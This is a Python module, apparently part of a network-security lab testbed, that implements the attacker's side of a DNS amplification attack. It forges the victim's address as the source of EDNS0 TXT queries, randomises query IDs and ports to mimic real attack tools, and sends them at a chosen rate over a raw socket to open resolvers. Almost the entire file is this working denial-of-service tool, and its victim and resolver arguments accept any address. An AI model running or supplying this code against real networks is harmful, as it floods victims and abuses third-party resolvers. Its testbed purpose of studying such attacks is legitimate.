"""Spoofed DNS queries with scapy: the attacker's half of a DNS amplification.

Run *inside the attacker namespace* (the lab starts it with `ip netns exec`):

    python -m necoma.testbed.lab.spoof --victim 10.77.2.10 --resolver 10.77.3.53,10.77.3.54 \
        --qname amp.lab.necoma.example --rate 200 --seconds 5

Each query carries the victim's address as its source and an EDNS0 OPT record
offering a 4096-byte buffer, so the open resolver sends its whole multi-kB TXT
answer over UDP, fragmented, to the victim, which never asked. Query IDs and
source ports vary as real attack tools vary them. Prints one JSON line with
what was sent.
"""
from __future__ import annotations

import argparse
import json
import random
import socket
import sys
import time

#: qtypes the lab's attacks use. Unbound answers ANY on local data with NODATA, so TXT is the default.
QTYPES = {"TXT": 16, "ANY": 255}


def build_queries(victim: str, resolvers: list[str], qname: str, qtype: int, count: int, seed: int) -> list:
    """`count` spoofed queries, spread round-robin over the resolvers."""
    from scapy.layers.dns import DNS, DNSQR, DNSRROPT
    from scapy.layers.inet import IP, UDP

    rng = random.Random(seed)
    return [
        IP(src=victim, dst=resolvers[i % len(resolvers)], id=rng.randrange(65536))
        / UDP(sport=rng.randrange(1024, 65536), dport=53)
        / DNS(id=rng.randrange(65536), rd=1, qd=DNSQR(qname=qname, qtype=qtype),
              ar=DNSRROPT(rclass=4096))  # EDNS0: "I take 4096-byte UDP answers"
        for i in range(count)
    ]


def send_spoofed(victim: str, resolvers: list[str], qname: str, *, qtype: int = 16, rate: float = 200,
                 seconds: float = 5, seed: int = 1) -> dict:
    """Send `rate` spoofed queries per second for `seconds`; return a summary.

    scapy crafts every packet up front; a raw IPPROTO_RAW socket (the kernel
    takes the IP header as given, forged source included) sends them on a
    fixed schedule. scapy's own `send()` re-routes and re-serializes each
    packet and manages only a few hundred per second, below the asked rate.
    """
    count = max(1, int(rate * seconds))
    packets = build_queries(victim, resolvers, qname, qtype, count, seed)
    wire = [(bytes(p), p.dst) for p in packets]
    # Importing scapy and crafting take seconds; say when sending starts, so the
    # other attack tools can be started to run alongside, not before.
    print(json.dumps({"ready": count}), flush=True)
    sent = errors = 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        start = time.time()
        t0 = time.monotonic()
        for i, (data, dst) in enumerate(wire):
            delay = t0 + i / rate - time.monotonic()
            if delay > 0:
                time.sleep(delay)
            try:
                sock.sendto(data, (dst, 0))
                sent += 1
            except OSError:  # e.g. ENOBUFS under load: count it, keep the schedule
                errors += 1
        end = time.time()
    return {"sent": sent, "errors": errors, "qname": qname, "qtype": qtype, "src": victim, "dst": resolvers,
            "start": start, "end": end}


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--victim", required=True, help="spoofed source address")
    ap.add_argument("--resolver", required=True, help="open resolvers to abuse, comma-separated")
    ap.add_argument("--qname", required=True)
    ap.add_argument("--qtype", default="TXT", choices=sorted(QTYPES))
    ap.add_argument("--rate", type=float, default=200, help="queries per second")
    ap.add_argument("--seconds", type=float, default=5)
    ap.add_argument("--seed", type=int, default=1)
    args = ap.parse_args(argv)
    summary = send_spoofed(args.victim, args.resolver.split(","), args.qname, qtype=QTYPES[args.qtype], rate=args.rate,
                           seconds=args.seconds, seed=args.seed)
    print(json.dumps(summary), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
